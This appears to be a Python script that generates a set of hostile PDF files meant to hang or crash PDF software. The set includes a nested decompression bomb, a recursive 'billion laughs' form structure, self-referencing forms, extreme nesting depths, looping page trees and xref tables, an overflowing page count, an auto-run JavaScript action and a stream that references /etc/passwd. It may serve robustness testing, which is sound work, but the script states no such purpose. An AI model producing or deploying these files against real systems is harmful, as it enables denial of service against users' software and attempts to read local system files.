"""Writes documents that hang, crash or fill most PDF tools into the folder given. Made by hand after what is published about such files."""
import os, sys, zlib

CATALOG = b"<</Type/Catalog/Pages 2 0 R>>"
PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
TEXT = b"BT /F1 12 Tf 72 700 Td (Hello {{sig:1}}) Tj ET"


def pdf(objects, trailer=b""):
    out, offsets = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return out + b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + table + (
        b"trailer\n<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, len(out)))


def stream(data, extra=b""):
    return b"<</Length %d%s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def write(name, data):
    with open(os.path.join(sys.argv[1], name + ".pdf"), "wb") as file:
        file.write(data)


def bomb():
    """256 MB of operators in 2 KB."""
    inner = zlib.compressobj(9)
    once = b"".join(inner.compress(b"q Q " * (1 << 18)) for _ in range(256)) + inner.flush()
    return zlib.compress(once, 9)


def laughs(levels):
    objects = [CATALOG, PAGES, PAGE.replace(b"/Font<</F1 5 0 R>>", b"/XObject<</X 6 0 R>>"), stream(b"/X Do"), FONT]
    for i in range(levels):
        last = i == levels - 1
        body = b"0 0 1 1 re f" if last else b"/X Do " * 10
        inner = b"" if last else b"/Resources<</XObject<</X %d 0 R>>>>" % (7 + i)
        objects.append(stream(body, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]" + inner))
    return pdf(objects)


def self_recursive():
    form = stream(b"/X Do /Y Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R/Y 6 0 R>>>>")
    return pdf([CATALOG, PAGES, PAGE.replace(b"/Font<</F1 5 0 R>>", b"/XObject<</X 6 0 R>>"), stream(b"/X Do"), FONT, form])


DEEP = 200_000
plain = pdf([CATALOG, PAGES, PAGE, stream(TEXT), FONT])
write("nested_arrays", pdf([CATALOG, PAGES, PAGE, stream(TEXT), FONT, b"[" * DEEP + b"]" * DEEP], b"/X 6 0 R"))
write("nested_dictionaries",
      pdf([CATALOG, PAGES, PAGE[:-2] + b"/Z " + b"<</A " * DEEP + b"0" + b">>" * DEEP + b">>", stream(TEXT), FONT]))
write("nested_in_content", pdf([CATALOG, PAGES, PAGE, stream(b"[" * DEEP + TEXT), FONT]))
write("unbalanced_saves", pdf([CATALOG, PAGES, PAGE, stream(b"q " * 1_000_000 + TEXT), FONT]))
write("form_laughs", laughs(12))
write("double_flate_bomb", pdf([CATALOG, PAGES, PAGE, stream(bomb(), b"/Filter[/FlateDecode/FlateDecode]"), FONT]))
write("page_loop", pdf([CATALOG, b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>", PAGE, stream(TEXT), FONT]))
write("count_2_31", pdf([CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>", PAGE, stream(TEXT), FONT]))
write("giant_page", pdf([CATALOG, PAGES, PAGE.replace(b"612 792", b"14400000 14400000"), stream(TEXT), FONT]))
write("xref_loop", plain.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % plain.rfind(b"xref\n0", 0, plain.rfind(b"startxref"))))
write("self_recursive_form", self_recursive())
write("javascript", pdf([CATALOG[:-2] + b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>", PAGES, PAGE, stream(TEXT), FONT]))
write("outside_file", pdf([CATALOG, PAGES, PAGE, b"<</Length 0/F(/etc/passwd)>>\nstream\n\nendstream", FONT]))
write("garbage", bytes(i * 73 % 256 for i in range(50_000)))
write("garbage_with_head", b"%PDF-1.7\n" + bytes(i * 73 % 256 for i in range(50_000)))
write("half", plain[: len(plain) // 2])
write("empty", b"")
